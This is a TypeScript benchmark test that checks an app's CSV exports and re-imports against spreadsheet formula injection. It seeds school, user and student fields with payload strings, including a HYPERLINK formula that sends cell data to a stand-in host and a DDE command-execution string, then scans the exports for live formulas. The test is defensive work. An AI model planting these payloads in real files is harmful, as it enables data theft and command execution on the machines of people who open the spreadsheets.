import { once } from 'node:events';
import { parse } from 'csv-parse/sync';
import { note } from '#cli/command-output.ts';
import { readSchoolList } from '#app/domain/high-schools/read-school-list.server.ts';
import { type BenchApp, openBenchApp } from '#tests/bench/support/bench-app.server.ts';
import { startBuiltCommand } from '#tests/bench/support/built-command.ts';
import type { Stage } from '#tests/bench/support/fault-stage.server.ts';
import { countFigure, plainFigure } from '#tests/bench/support/figures.ts';
import type { Report } from '#tests/bench/support/report.ts';
import { withResources } from '#tests/bench/support/resources.ts';
import { makeDesignation, studentInput } from '#tests/factories/designation-factory.server.ts';
import { makeSchool, makeYear } from '#tests/factories/school-factory.server.ts';
import { makeAdmin, makeCounselor } from '#tests/factories/user-factory.server.ts';
import { previewed, studentsOf } from '#tests/support/csv-import.ts';

/** Texts that spreadsheets run as formulas, some of them with an escape prefix. */
const FORMULAS = [
  `=HYPERLINK("https://x.example.org?"&A1,"Ada")`,
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  `'=1+1`,
  `''@SUM(1)`,
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
] as const;
/** How cells begin that LibreOffice, Excel, or Google Sheets run. Doesn't use the product's own list. */
const LIVE = /^[\t\r\n ]*[=+\-@＝＋－＠]/u;
const EXAMPLES = 8;
const STUDENTS = FORMULAS.length;

interface Scene {
  readonly app: BenchApp;
  readonly databaseUrl: string;
  readonly adminId: string;
  readonly designationId: string;
  readonly schoolId: string;
  readonly userId: string;
  readonly yearId: string;
}

/** R15: puts formulas in every exported field, runs every export, and imports the results again. */
export async function formulasTrial(report: Report, stage: Stage): Promise<void> {
  await withResources(async (keep) => {
    const databaseUrl = await stage.makeDatabase();
    const app = await keep(openBenchApp(databaseUrl));
    const scene = await makeScene(app, databaseUrl);
    const files = [...(await download(scene)), ...(await commandFiles(scene))];
    let cells = 0;
    const live: string[] = [];
    for (const { name, text } of files) {
      const rows: string[][] = parse(text, { bom: true, relax_column_count: true });
      for (const cell of rows.flat()) {
        cells += 1;
        if (LIVE.test(cell)) live.push(`${name}: ${cell}`);
      }
      if (rows.length < 2) throw new Error(`${name} has no rows.`);
    }
    report.add(plainFigure('R15', `cells of ${files.length} exports`, 'cells', [cells], { atLeast: 1_000 }));
    tell(report, 'live formulas', 'cells', live);
    tell(
      report,
      'students whom the import of an export changed',
      'students',
      await changedStudents(scene, files),
    );
    tell(report, 'schools whom the import of an export changed', 'schools', changedSchools(files));
  });
}

async function makeScene(app: BenchApp, databaseUrl: string): Promise<Scene> {
  const { orm } = app;
  const { id: yearId } = await makeYear(orm);
  const { id: adminId } = await makeAdmin(orm);
  const scenes: Pick<Scene, 'schoolId' | 'userId' | 'designationId'>[] = [];
  for (const formula of FORMULAS) {
    const { id: schoolId } = await makeSchool(orm, {
      name: formula,
      notes: formula,
      bannerCode: formula,
      salesforceId: formula,
    });
    const { user } = await makeCounselor(orm, [schoolId], { firstName: formula, lastName: formula });
    const students = FORMULAS.map((first) => {
      const { address, ...student } = studentInput({
        first,
        middle: formula,
        last: formula,
        preferred: first,
      });
      return { ...student, address: { ...address, address1: first, address2: formula, city: formula } };
    });
    const { id: designationId } = await makeDesignation(orm, {
      ...{ highSchoolId: schoolId, academicYearId: yearId, submittedById: user.id, classSize: STUDENTS * 10 },
      ...{ criteria: 'OTHER', criteriaComment: formula, status: 'PENDING', students },
    });
    scenes.push({ schoolId, userId: user.id, designationId });
  }
  const [first] = scenes;
  if (first === undefined) throw new Error('No formula was stored.');
  return { app, databaseUrl, adminId, yearId, ...first };
}

interface Exported {
  readonly name: string;
  readonly text: string;
}

async function download({ app, adminId, ...ids }: Scene): Promise<Exported[]> {
  const admin = await app.callerOf(adminId);
  const paths = [
    'designations/download',
    `designations/download/year/${ids.yearId}`,
    `designations/download/highschool/${ids.schoolId}`,
    `designations/download/user/${ids.userId}`,
    `designations/download/${ids.designationId}`,
    'highschools/download',
    `highschools/download/${ids.schoolId}`,
    'users/download',
    `users/download/${ids.userId}`,
  ];
  const files: Exported[] = [];
  for (const path of paths) {
    const { status, body } = await admin.send('GET', `/api/${path}`);
    if (status !== 200) throw new Error(`GET ${path} returned ${status}.`);
    files.push({ name: path, text: body });
  }
  return files;
}

async function commandFiles({ databaseUrl, app, ...ids }: Scene): Promise<Exported[]> {
  const commands = [
    ['export', 'designations', '--no-mark'],
    ['export', 'designation', ids.designationId, '--no-mark'],
    ['export', 'schools'],
    ['export', 'school', ids.schoolId],
    ['export', 'users'],
    ['export', 'user', ids.userId],
  ];
  const files: Exported[] = [];
  for (const args of commands) {
    const installation = { databaseUrl, smtpUrl: app.mail.url };
    const child = startBuiltCommand(args, installation, { stdio: ['ignore', 'pipe', 'inherit'] });
    let text = '';
    child.stdout?.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
    const [code] = (await once(child, 'close')) as [number | null];
    if (code !== 0) throw new Error(`laurel ${args.join(' ')} ended with ${code}.`);
    files.push({ name: `laurel ${args.slice(0, 2).join(' ')}`, text });
  }
  return files;
}

async function changedStudents({ app, designationId }: Scene, files: readonly Exported[]): Promise<string[]> {
  const file = files.find(({ name }) => name === `designations/download/${designationId}`);
  const stored = await app.rows<Record<string, string>>(
    `select first, middle, last, preferred, address_address1 as address1, address_address2 as address2, address_city as city
       from student where designation_id = ? order by position`,
    [designationId],
  );
  const students = studentsOf(previewed(file?.text ?? '')).map(
    ({ first, middle, last, preferred, address }) => {
      const { address1, address2, city } = address;
      return { first, middle, last, preferred, address1, address2, city };
    },
  );
  return stored.flatMap((student, index) =>
    JSON.stringify(student) === JSON.stringify(students[index])
      ? []
      : [`${JSON.stringify(students[index])} of ${JSON.stringify(student)}`],
  );
}

function changedSchools(files: readonly Exported[]): string[] {
  const file = files.find(({ name }) => name === 'highschools/download');
  const { rows } = readSchoolList(new TextEncoder().encode(file?.text ?? ''));
  const names = new Set(rows.map(({ cells }) => cells.name));
  return FORMULAS.filter((formula) => !names.has(formula));
}

function tell(report: Report, what: string, unit: string, found: readonly string[]): void {
  report.add(countFigure('R15', what, unit, found.length));
  for (const line of found.slice(0, EXAMPLES)) note(`  ${line}`);
}
